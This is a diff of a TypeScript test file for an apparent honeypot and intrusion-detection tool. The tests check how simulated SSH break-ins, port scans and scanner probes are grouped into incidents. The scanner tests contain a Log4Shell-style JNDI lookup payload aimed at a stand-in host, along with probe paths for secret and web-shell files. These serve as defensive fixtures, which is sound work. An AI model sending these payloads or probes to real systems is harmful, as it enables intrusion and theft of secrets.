@@ -1,5 +1,6 @@
 import type { Action } from '@netsentinel/contracts/action';
 import { Incident, INCIDENT_LIMITS } from '@netsentinel/contracts/incident';
+import type { Detection } from '@netsentinel/contracts/detection';
 import type { Event } from '@netsentinel/contracts/event';
 import { createDetectors } from '@netsentinel/detect/detectors';
 import { newActorState, rememberBefore } from '@netsentinel/detect/actor-state';
@@ -24,6 +25,31 @@ function tell(events: readonly Event[]): Incident[] {
     else incidents.set(incident.id, incident);
   }
   return [...incidents.values()];
+}
+
+/** What the watcher saw, from the attacker of `moveEvent`. */
+function probeOf(sequence: number, kind: string, touched: number, total: number): Event {
+  const time = new Date(STORY_START - 60_000 + sequence * 1000).toISOString();
+  const { source, netsentinel } = moveEvent({ connect: true }, STORY_START, sequence);
+  return {
+    '@timestamp': time,
+    event: {
+      id: `watcher~w1~${sequence}`,
+      kind: 'event',
+      category: ['network'],
+      dataset: 'netsentinel.watcher',
+      ingested: time,
+      sequence,
+    },
+    source,
+    destination: { ip: '192.0.2.1', port: 23 },
+    netsentinel: {
+      sensor: { id: 'watcher', type: 'watcher' },
+      source_verified: false,
+      actor: netsentinel.actor,
+      probe: { kind, touched, total },
+    },
+  };
 }
 
 const attack: Move[] = [
@@ -51,7 +77,7 @@ describe('an attack by SSH', () => {
   it('reads as what happened', () => {
     expect(incident).toMatchObject({
       title:
-        'SSH brute force from 198.51.100.7, logged in as root, brought in and ran a file, planted an SSH key, cleared the history',
+        'SSH break-in by brute force from 198.51.100.7, logged in as root, brought in and ran a file, planted an SSH key, cleared the history',
       severity: 'critical',
       sourceVerified: true,
       status: 'open',
@@ -60,6 +86,44 @@ describe('an attack by SSH', () => {
       addresses: ['198.51.100.7'],
     });
     expect(incident?.score).toBeGreaterThanOrEqual(90);
+  });
+
+  it('names nobody where the login had no name', () => {
+    const [unnamed] = tell(movesOf([{ connect: true }, { login: '', password: '', ok: true }]));
+    expect(unnamed?.title).toBe('SSH break-in from 198.51.100.7, logged in');
+  });
+
+  it('stays a break-in by its service, whatever fails elsewhere afterwards', () => {
+    const elsewhere = ['a', 'b', 'c', 'd', 'e', 'f'].map((password, at) => {
+      const event = moveEvent({ login: 'root', password }, STORY_START + 60_000 + at * 1000, 100 + at);
+      event.network = { protocol: 'ftp' };
+      event.netsentinel.session = { id: `ftp-${at}` };
+      return event;
+    });
+    const [known] = tell([...movesOf([{ connect: true }, { login: 'root', password: 'x', ok: true }]), ...elsewhere]);
+    expect(known?.detections.map(({ rule }) => rule)).toContain('login-brute-force');
+    expect(known?.title).toBe('SSH break-in from 198.51.100.7, logged in as root');
+    expect(known?.timeline.filter(({ kind }) => kind === 'login-failed')).toMatchObject([
+      { count: 6, protocol: 'ftp' },
+    ]);
+  });
+
+  it('keeps where they got in when hundreds of connections follow', () => {
+    const after = Array.from({ length: 2000 }, (_, at) => {
+      const event = moveEvent(
+        at % 2 === 0 ? { connect: true } : { login: `user${at}`, password: `${at}` },
+        STORY_START + 60_000 + at * 30_000,
+        100 + at,
+      );
+      event.netsentinel.session = { id: `later-${at >> 1}` };
+      event.netsentinel.decoy = { id: 'telnet-1', type: 'telnet' };
+      event.network = { protocol: 'telnet' };
+      return event;
+    });
+    const [known] = tell([...movesOf([{ connect: true }, { login: 'root', password: 'x', ok: true }, 'id']), ...after]);
+    expect(known?.title).toBe('SSH break-in from 198.51.100.7, logged in as root');
+    expect(known?.timeline.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['login', 'command']));
+    expect(known?.credentials.filter(({ accepted }) => accepted)).toHaveLength(1);
   });
 
   it('knows the tactics in the order in which they were reached', () => {
@@ -120,13 +184,8 @@ describe('folding', () => {
     const [incident] = tell(
       movesOf([{ connect: true }, { disconnect: true }, { connect: true }, { forward: '192.0.2.1:25' }]),
     );
-    expect(incident?.timeline.map((entry) => entry.kind)).toEqual([
-      'connect',
-      'disconnect',
-      'connect',
-      'forward',
-      'detection',
-    ]);
+    expect(incident?.timeline.map((entry) => entry.kind)).toEqual(['connect', 'forward', 'detection']);
+    expect(incident?.timeline[0]).toMatchObject({ title: 'Connected 2 times to ssh-1', count: 2, protocol: 'ssh' });
     expect(incident?.firstSeen).toBe(STORY_START + 1000);
     expect(incident?.title).toBe('SSH probe from 198.51.100.7, tunnelled connections');
   });
@@ -136,6 +195,29 @@ describe('folding', () => {
     expect(tell(movesOf([login, login, login, login]))).toEqual([]);
     const [incident] = tell(movesOf([login, login, login, login, login]));
     expect(incident).toMatchObject({ counts: { failures: 5 }, severity: 'medium' });
+  });
+
+  it('is as bad as the worst that was found by the same rule, and tells that', () => {
+    const [first, second, third] = movesOf(['ls', 'ls', 'ls']);
+    const found = (event: Event, severity: Detection['severity']): Detection => ({
+      id: `one~${event.event.id}`,
+      rule: { id: 'one', title: 'One' },
+      actor: event.netsentinel.actor,
+      time: Date.parse(event['@timestamp']),
+      severity,
+      confidence: 50,
+      techniques: ['T1595'],
+      tactics: ['TA0043'],
+      summary: severity,
+      evidence: [event.event.id],
+      sourceVerified: true,
+    });
+    let incident = foldEvent(undefined, first!, [found(first!, 'low')], { before: [] });
+    incident = foldEvent(incident, second!, [found(second!, 'high')], { before: [] });
+    incident = foldEvent(incident, third!, [found(third!, 'medium')], { before: [] });
+    expect(incident).toMatchObject({ severity: 'high', detections: [{ rule: 'one', severity: 'high', count: 3 }] });
+    const told = incident!.timeline.filter(({ kind }) => kind === 'detection');
+    expect(told.map(({ severity }) => severity)).toEqual(['low', 'high']);
   });
 
   it('changes nothing when the latest event comes again', () => {
@@ -184,11 +266,6 @@ describe('folding', () => {
     const closed: Incident = { ...first!, status: 'closed' };
     expect(foldEvent(closed, movesOf(['ls'], 9)[0]!, [], { before: [] })?.id).not.toBe(closed.id);
     expect(foldEvent(closed, moveEvent({ connect: true }, STORY_START, 10), [], { before: [] })).toBeUndefined();
-    const benign: Incident = { ...first!, status: 'benign' };
-    expect(foldEvent(benign, movesOf(['ls'], 9)[0]!, [], { before: [] })).toMatchObject({
-      id: benign.id,
-      status: 'benign',
-    });
   });
 
   it('trusts unproven sources little', () => {
@@ -335,5 +412,133 @@ describe('actions in the story', () => {
     current = foldAction(current, action('applied', 'act-2'));
     expect(foldAction(current, action('expired')).status).toBe('contained');
     expect(foldAction(current, { ...action('expired'), incident: 'other' })).toBe(current);
+  });
+});
+
+describe('where the attacker got in', () => {
+  const real = (event: Event): Event => {
+    const { decoy: _, ...rest } = event.netsentinel;
+    return { ...event, netsentinel: rest };
+  };
+  const [tried, decoy] = movesOf([
+    { login: 'root', password: 'x' },
+    { login: 'root', password: 'y', ok: true },
+  ]);
+
+  it('is told: at decoys, on a machine, or nowhere', () => {
+    expect(tell([tried!])[0]!.inside).toBeUndefined();
+    expect(tell([tried!, decoy!])[0]!.inside).toBe('decoy');
+    const [machine, again] = movesOf([{ login: 'root', ok: true }, 'id'], 10);
+    expect(tell([decoy!, real(machine!), again!])[0]!.inside).toBe('machine');
+  });
+});
+
+describe('a known scanner', () => {
+  const shodan = { id: 'shodan', name: 'Shodan', kind: 'research' } as const;
+  const probing: Move[] = ['.env', '.git/config', 'shell.php', 'phpmyadmin/index.php', 'backup.sql'].map((path) => ({
+    request: `GET /${path}`,
+    status: 404,
+  }));
+  const by = (scanner: typeof shodan | undefined, moves: readonly Move[]): Incident[] =>
+    tell(
+      movesOf(moves).map((event) =>
+        scanner === undefined ? event : { ...event, netsentinel: { ...event.netsentinel, scanner } },
+      ),
+    );
+
+  it('is named, and its probing weighs little', () => {
+    const [stranger] = by(undefined, probing);
+    const [incident] = by(shodan, probing);
+    expect(stranger).toMatchObject({ severity: 'medium', title: 'SSH probe from 198.51.100.7' });
+    expect(incident).toMatchObject({
+      severity: 'low',
+      scanner: shodan,
+      title: 'Shodan, a research scanner: SSH probe from 198.51.100.7',
+    });
+    expect(incident!.score).toBeLessThan(30);
+    expect(Incident.safeParse(incident).error).toBeUndefined();
+    expect(summaryOf(incident!).scanner).toEqual(shodan);
+  });
+
+  it('weighs as anybody where it does more than look', () => {
+    const [incident] = by(shodan, attack);
+    expect(incident).toMatchObject({ severity: 'critical', scanner: shodan });
+    expect(incident!.title).toMatch(/^Shodan, a research scanner: SSH break-in by brute force from/);
+    const [exploit] = by(shodan, [{ request: 'GET /?x=${jndi:ldap://192.0.2.1/a}' }]);
+    const [same] = by(undefined, [{ request: 'GET /?x=${jndi:ldap://192.0.2.1/a}' }]);
+    expect([exploit!.severity, exploit!.score]).toEqual([same!.severity, same!.score]);
+  });
+});
+
+describe("what is no attack by a person's word", () => {
+  it('is over: what comes next is another story', () => {
+    const [incident] = tell(movesOf(attack));
+    const [event] = movesOf([{ login: 'root', password: 'x' }], 100);
+    const next = foldEvent({ ...incident!, status: 'benign' }, event!, [], { before: [] });
+    expect(next?.id).not.toBe(incident!.id);
+  });
+
+  it('opens no incident at a decoy but by what else was found', () => {
+    const [event] = movesOf([{ login: 'root', password: 'x' }]);
+    const detections = detectors.process(event!, newActorState());
+    expect(detections.length).toBeGreaterThan(0);
+    expect(foldEvent(undefined, event!, [], { before: [], isExcepted: true })).toBeUndefined();
+    expect(foldEvent(undefined, event!, [], { before: [] })).toBeDefined();
+    expect(foldEvent(undefined, event!, detections, { before: [], isExcepted: true })).toBeDefined();
+  });
+});
+
+describe('probes of closed ports', () => {
+  const scanned = (incident: Incident | undefined): string[] =>
+    incident!.timeline.filter(({ kind }) => kind === 'probe').map(({ title }) => title);
+
+  it('open nothing alone, and join the story of who breaks in', () => {
+    const touch = probeOf(1, 'syn', 1, 1);
+    expect(tell([touch])).toEqual([]);
+    const [incident] = tell([touch, ...movesOf(attack)]);
+    expect(scanned(incident)).toEqual(['SYN scan of 192.0.2.1: 1 port']);
+    expect(incident!.firstSeen).toBe(Date.parse(touch['@timestamp']));
+  });
+
+  it('are in the title: all of it, or what they did besides', () => {
+    const found = (event: Event): Detection => ({
+      id: `port-scan~${event.event.id}`,
+      rule: { id: 'port-scan', title: 'Port scan' },
+      actor: event.netsentinel.actor,
+      time: Date.parse(event['@timestamp']),
+      severity: 'medium',
+      confidence: 60,
+      techniques: ['T1046'],
+      tactics: ['TA0007'],
+      summary: 'scanned',
+      evidence: [event.event.id],
+      sourceVerified: false,
+    });
+    const scan = probeOf(1, 'syn', 100, 100);
+    const alone = foldEvent(undefined, scan, [found(scan)], { before: [] })!;
+    expect(alone.title).toBe('Port scan from 198.51.100.7');
+    const [connect] = movesOf([{ connect: true }]);
+    expect(foldEvent(alone, connect!, [], { before: [] })!.title).toBe(
+      'SSH probe from 198.51.100.7, scanned our ports',
+    );
+  });
+
+  it('are one entry for each kind of scan, however many batches tell of it', () => {
+    const [incident] = tell([
+      ...movesOf(attack),
+      probeOf(1, 'syn', 100, 100),
+      probeOf(2, 'udp', 5, 5),
+      probeOf(3, 'syn', 900, 1000),
+      probeOf(4, 'echo', 0, 0),
+      probeOf(5, 'echo', 0, 0),
+      // The watcher has begun to count anew.
+      probeOf(6, 'udp', 3, 3),
+    ]);
+    expect(scanned(incident).toSorted()).toEqual([
+      'Ping of 192.0.2.1',
+      'SYN scan of 192.0.2.1: 1000 ports',
+      'UDP scan of 192.0.2.1: 3 ports',
+      'UDP scan of 192.0.2.1: 5 ports',
+    ]);
   });
 });
